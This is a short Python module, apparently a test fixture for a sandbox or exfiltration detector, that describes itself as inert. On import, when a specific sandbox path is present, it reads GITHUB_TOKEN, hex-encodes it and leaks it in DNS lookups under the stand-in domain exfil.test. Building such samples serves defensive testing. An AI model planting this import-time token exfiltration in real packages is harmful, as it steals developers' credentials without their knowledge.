"""Inert sample: an import that spells a planted token in DNS labels below a domain that does not exist."""

import os
import socket


def act():
    text = os.environ.get("GITHUB_TOKEN", "").encode().hex()
    for number, start in enumerate(range(0, len(text), 32)):
        try:
            socket.getaddrinfo(f"{text[start : start + 32]}.{number}.exfil.test", 443)
        except OSError:
            pass


# Only a fumehood pod has this directory; anywhere else nothing happens.
if os.path.isfile("/opt/fumehood/pip_launcher.py"):
    act()
